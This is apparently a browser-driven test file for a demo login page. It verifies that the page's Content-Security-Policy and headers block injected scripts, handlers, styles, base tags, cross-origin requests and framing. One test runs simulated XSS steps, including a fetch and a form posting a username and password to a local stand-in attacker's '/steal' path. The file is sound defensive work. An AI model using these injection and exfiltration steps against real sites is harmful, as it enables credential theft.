// The demo page talks only to its own origin, and its Content-Security-Policy blocks what an
// injected script, a hostile link or a framing site would try.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { startServer, register, newUsername } from "../lib/server.mjs";
import { startListener, startStaticServer } from "../lib/static.mjs";
import { launch, openPage, screenshot } from "../lib/browser.mjs";
import { tokenLogin, cookieLogin, connectAndWelcome, echo, waitText } from "../lib/page.mjs";

let server;
let attacker;
let framer;
let browser;

before(async () => {
  server = await startServer();
  // The attacker's host: a bare listener counting every connection and byte it receives.
  attacker = await startListener();
  // Another site with a page that frames the demo page.
  framer = await startStaticServer({ "/framer.html": "framer.html" });
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await framer?.stop();
  await attacker?.stop();
  await server?.stop();
});

test("?server= pointing at another host sends it nothing: credentials and sockets go to the page's own server", async () => {
  const username = newUsername("noserver");
  await register(server.origin, username);
  const before = attacker.seen();
  const { page, errors } = await openPage(browser.context, `${server.origin}/?server=${attacker.host}`);
  const requests = [];
  const sockets = [];
  page.on("request", (req) => requests.push(req.url()));
  page.on("websocket", (ws) => sockets.push(ws.url()));
  try {
    assert.match(await page.textContent("#server"), new RegExp(`^${server.origin.replace(/\./g, "\\.")} `));
    await tokenLogin(page, username);
    await waitText(page, "#http-log", /POST \/auth\/login → 200/);
    await connectAndWelcome(page, "query", username);
    await connectAndWelcome(page, "subprotocol", username);
    await connectAndWelcome(page, "ticket", username);
    await echo(page, "subprotocol", "to the page's own server");
    await cookieLogin(page, username);
    await connectAndWelcome(page, "cookie", username);
    await screenshot(page, "server-parameter-ignored");

    assert.deepEqual(attacker.seen(), before, "not even a connection reached the host named in ?server=");
    assert.ok(requests.some((u) => u === `${server.origin}/auth/login`), "the login went to the real server");
    assert.deepEqual(requests.filter((u) => !u.startsWith(`${server.origin}/`)), [], "every request went to the page's own origin");
    assert.equal(sockets.length, 4);
    assert.deepEqual(sockets.filter((u) => !u.startsWith(`ws://${server.host}/`)), [], "every socket went to the page's own host");
    assert.deepEqual(errors, [], "same-origin fetches and ws:// sockets pass connect-src 'self'");
  } finally {
    await page.close();
  }
});

test("the page is served with a strict Content-Security-Policy and the usual headers", async () => {
  const page = await browser.context.newPage();
  try {
    const response = await page.goto(`${server.origin}/`);
    const headers = response.headers();
    const csp = headers["content-security-policy"];
    assert.ok(csp, "a Content-Security-Policy header");
    const directives = Object.fromEntries(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([name, ...v]) => [name, v]));
    assert.deepEqual(directives["default-src"], ["'self'"]);
    assert.deepEqual(directives["connect-src"], ["'self'"]);
    assert.deepEqual(directives["form-action"], ["'self'"]);
    assert.deepEqual(directives["base-uri"], ["'none'"]);
    assert.deepEqual(directives["frame-ancestors"], ["'none'"]);
    for (const name of ["script-src", "style-src"]) {
      assert.ok(directives[name]?.length > 0, `${name} in ${csp}`);
      for (const source of directives[name]) assert.match(source, /^'sha256-[A-Za-z0-9+/]+={0,2}'$/, `${name} allows only hashes`);
    }
    assert.doesNotMatch(csp, /unsafe/);
    assert.equal(headers["x-frame-options"], "DENY");
    assert.equal(headers["x-content-type-options"], "nosniff");
    assert.equal(headers["referrer-policy"], "no-referrer");
    assert.equal(headers["cache-control"], "no-cache");
  } finally {
    await page.close();
  }
});

test("an injected script, handler, style or base, and a fetch, socket or form to another origin are blocked", async () => {
  const before = attacker.seen();
  const { page, violations } = await openPage(browser.context, `${server.origin}/`);
  try {
    assert.deepEqual(violations, [], "the page itself runs without a violation");
    const result = await page.evaluate(async (evil) => {
      const out = {};
      // An injected inline script, as an XSS would add it.
      const script = document.createElement("script");
      script.textContent = "window.__injected = true;";
      document.body.append(script);
      out.inlineScript = window.__injected === true;
      // An inline event handler.
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.__handler = true;");
      document.body.append(button);
      button.click();
      out.handler = window.__handler === true;
      // An injected stylesheet.
      const style = document.createElement("style");
      style.textContent = "body { background-color: rgb(255, 0, 0) !important; }";
      document.head.append(style);
      out.background = getComputedStyle(document.body).backgroundColor;
      // A <base> that would redirect every relative URL.
      const base = document.createElement("base");
      base.href = `http://${evil}/`;
      document.head.prepend(base);
      out.baseURI = document.baseURI;
      // A fetch to another origin, the way credentials would leave.
      try {
        await fetch(`http://${evil}/steal`, { method: "POST", body: "username=alice&password=secret", mode: "no-cors" });
        out.fetch = "sent";
      } catch (err) { out.fetch = err.name; }
      // A socket to another origin (Chromium blocks it without firing close).
      out.socket = await new Promise((resolve) => {
        try {
          const ws = new WebSocket(`ws://${evil}/`);
          ws.onopen = () => resolve("open");
          ws.onclose = (ev) => resolve(`closed ${ev.code}`);
          setTimeout(() => resolve("not opened"), 2_000);
        } catch (err) { resolve(err.name); }
      });
      // A form posting to another origin.
      const form = document.createElement("form");
      form.method = "post";
      form.action = `http://${evil}/steal`;
      form.target = "_self";
      document.body.append(form);
      form.submit();
      await new Promise((r) => setTimeout(r, 500));
      out.location = location.href;
      return out;
    }, attacker.host);
    assert.equal(result.inlineScript, false, "inline script ran");
    assert.equal(result.handler, false, "inline handler ran");
    assert.notEqual(result.background, "rgb(255, 0, 0)", "injected style applied");
    assert.equal(result.baseURI, `${server.origin}/`);
    assert.equal(result.fetch, "TypeError");
    assert.match(result.socket, /^(closed 1006|SecurityError|not opened)$/);
    assert.equal(result.location, `${server.origin}/`);
    await page.waitForTimeout(300);
    // Chromium may open a speculative connection for the refused form, but sends nothing on it.
    assert.equal(attacker.seen().bytes, before.bytes, "not a byte reached the other origin");
    const directives = new Set(violations.map((v) => v.directive));
    for (const d of ["script-src-elem", "script-src-attr", "style-src-elem", "base-uri", "connect-src", "form-action"]) {
      assert.ok(directives.has(d), `a securitypolicyviolation for ${d}: ${JSON.stringify(violations)}`);
    }
  } finally {
    await page.close();
  }
});

test("another site cannot frame the page", async () => {
  const { page } = await openPage(browser.context, `${framer.origin}/framer.html?target=${server.host}`);
  try {
    await waitText(page, "#loaded", /^loaded$/);
    const frame = await (await page.$("#victim")).contentFrame();
    assert.ok(frame, "the iframe exists");
    await page.waitForTimeout(300);
    assert.notEqual(frame.url(), `${server.origin}/`, "the frame did not navigate to the demo page");
    const shown = await frame.evaluate(() => !!document.getElementById("username")).catch(() => false);
    assert.equal(shown, false, "the demo page's form is not in the frame");
    await screenshot(page, "framing-blocked");
  } finally {
    await page.close();
  }
});
